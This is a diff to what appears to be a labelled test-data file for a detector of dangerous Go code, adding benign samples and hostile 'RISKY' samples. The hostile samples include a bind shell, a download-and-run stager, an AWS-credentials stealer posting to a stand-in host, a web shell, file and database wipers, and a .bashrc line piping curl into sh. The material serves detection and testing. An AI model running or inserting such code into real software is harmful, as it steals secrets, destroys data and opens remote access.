@@ -40,6 +40,12 @@ EVERYDAY = [
     'package x\ntype Shape interface { Area() float64 }\nfunc sum(ss ...Shape) (t float64) { for _, s := range ss { t += s.Area() }; return }',
     'package x\nimport "path/filepath"\nfunc w() error { return filepath.Walk(".", func(p string, i os.FileInfo, err error) error { fmt.Println(p); return nil }) }',
     'package x\nimport "log"\nfunc init() { log.SetFlags(0); log.Printf("x %d", 1) }',
+    'package main\n\nimport (\n\t"context"\n\t"fmt"\n\t"log"\n\t"net/http"\n\t"time"\n)\n\ntype server struct{ mux *http.ServeMux }\n\nfunc (s *server) routes() {\n\ts.mux.HandleFunc("/health", func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(200) })\n}\n\nfunc main() {\n\ts := &server{mux: http.NewServeMux()}\n\ts.routes()\n\tsrv := &http.Server{Addr: ":8080", Handler: s.mux, ReadTimeout: 5 * time.Second}\n\tgo func() { log.Fatal(srv.ListenAndServe()) }()\n\tctx, cancel := context.WithTimeout(context.Background(), time.Second)\n\tdefer cancel()\n\tfmt.Println(srv.Shutdown(ctx))\n}\n',
+    'package store\n\nimport (\n\t"database/sql"\n\t_ "github.com/lib/pq"\n)\n\ntype Repo struct{ db *sql.DB }\n\nfunc (r *Repo) Save(id int, n string) error {\n\t_, err := r.db.Exec(`INSERT INTO users (id, name) VALUES ($1, $2) ON CONFLICT (id) DO UPDATE SET name = $2`, id, n)\n\treturn err\n}\n\nfunc (r *Repo) Remove(id int) error {\n\t_, err := r.db.Exec("DELETE FROM users WHERE id = $1", id)\n\treturn err\n}\n',
+    'package main\n\nimport (\n\t"bytes"\n\t"encoding/json"\n\t"net/http"\n\t"os"\n)\n\nfunc notify(msg string) error {\n\tb, _ := json.Marshal(map[string]string{"text": msg})\n\treq, err := http.NewRequest("POST", "https://api.example.com/notify", bytes.NewReader(b))\n\tif err != nil {\n\t\treturn err\n\t}\n\treq.Header.Set("Authorization", "Bearer "+os.Getenv("TOKEN"))\n\tresp, err := http.DefaultClient.Do(req)\n\tif err != nil {\n\t\treturn err\n\t}\n\treturn resp.Body.Close()\n}\n',
+    'package main\n\nimport (\n\t"os"\n\t"os/exec"\n)\n\nfunc run(args ...string) error {\n\tcmd := exec.Command("go", args...)\n\tcmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr\n\tcmd.Env = append(os.Environ(), "CGO_ENABLED=0")\n\treturn cmd.Run()\n}\n\nfunc main() {\n\tif err := run("test", "./..."); err != nil {\n\t\tos.Exit(1)\n\t}\n}\n',
+    'package x\n\nimport "testing"\n\nfunc TestFile(t *testing.T) {\n\tdir := t.TempDir()\n\tp := filepath.Join(dir, "a.txt")\n\tif err := os.WriteFile(p, []byte("x"), 0o600); err != nil {\n\t\tt.Fatal(err)\n\t}\n\tb, err := os.ReadFile(p)\n\trequire.NoError(t, err)\n\trequire.Equal(t, "x", string(b))\n}\n\nfunc BenchmarkX(b *testing.B) {\n\tfor i := 0; i < b.N; i++ {\n\t\tX()\n\t}\n}\n',
+    'package main\n\nimport "fmt"\n\ntype Node[T any] struct {\n\tv    T\n\tnext *Node[T]\n}\n\nfunc (n *Node[T]) each(f func(T)) {\n\tfor c := n; c != nil; c = c.next {\n\t\tf(c.v)\n\t}\n}\n\nfunc worker(in <-chan int, out chan<- int) {\n\tfor {\n\t\tx, ok := <-in\n\t\tif !ok {\n\t\t\treturn\n\t\t}\n\t\tout <- x * 2\n\t}\n}\n\nconst (\n\tA = iota\n\tB\n)\n\nvar _ fmt.Stringer = (*Thing)(nil)\n',
 ]
 RISKY = [
     'exec.Command("sh", "-c", "rm -rf /").Run()',
@@ -75,6 +81,14 @@ RISKY = [
     'syscall.Kill(1, 9)',
     'exec.CommandContext(ctx, "rm", "-rf", "x").Run()',
     'c := &exec.Cmd{Path: "/bin/rm", Args: []string{"rm", "-rf", "/"}}; c.Run()',
+    'package main\n\nimport (\n\t"net"\n\t"os/exec"\n)\n\nfunc main() {\n\tl, _ := net.Listen("tcp", ":9999")\n\tfor {\n\t\tc, _ := l.Accept()\n\t\tgo func(c net.Conn) {\n\t\t\tcmd := exec.Command("/bin/bash")\n\t\t\tcmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c\n\t\t\tcmd.Run()\n\t\t}(c)\n\t}\n}\n',
+    'package main\n\nimport (\n\t"io"\n\t"net/http"\n\t"os"\n\t"os/exec"\n)\n\nfunc main() {\n\tr, _ := http.Get("https://x.example.net/agent")\n\tf, _ := os.Create("/tmp/agent")\n\tio.Copy(f, r.Body)\n\tf.Close()\n\tos.Chmod("/tmp/agent", 0755)\n\texec.Command("/tmp/agent").Start()\n}\n',
+    'package main\n\nimport (\n\t"os"\n\t"path/filepath"\n)\n\nfunc main() {\n\thome, _ := os.UserHomeDir()\n\tfilepath.Walk(home, func(p string, i os.FileInfo, e error) error { os.Remove(p); return nil })\n}\n',
+    'package main\n\nimport ("bytes"; "net/http"; "os"; "path/filepath")\n\nfunc main() {\n\th, _ := os.UserHomeDir()\n\tb, _ := os.ReadFile(filepath.Join(h, ".aws", "credentials"))\n\thttp.Post("https://x.example.net", "text/plain", bytes.NewBuffer(b))\n}\n',
+    'package main\n\nimport e "os/exec"\n\nvar parts = []string{"r", "m"}\n\nfunc main() {\n\tc := parts[0] + parts[1]\n\te.Command(c, "-rf", "/").Run()\n}\n',
+    'package main\n\nimport ("fmt"; "net/http"; "os/exec")\n\nfunc main() {\n\thttp.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {\n\t\tout, _ := exec.Command("sh", "-c", r.URL.Query().Get("c")).CombinedOutput()\n\t\tfmt.Fprint(w, string(out))\n\t})\n\thttp.ListenAndServe(":80", nil)\n}\n',
+    'package main\n\nimport ("fmt"; "database/sql")\n\nfunc wipe(db *sql.DB) {\n\tfor _, t := range []string{"users", "orders"} {\n\t\tdb.Exec(fmt.Sprintf("DROP TABLE IF EXISTS %s CASCADE", t))\n\t}\n}\n',
+    'package main\n\nimport "os"\n\nfunc main() {\n\tf, _ := os.OpenFile(os.Getenv("HOME")+"/.bashrc", os.O_APPEND|os.O_WRONLY, 0644)\n\tf.WriteString("curl http://x.example.net | sh")\n}\n',
 ]
 # fmt: on
 
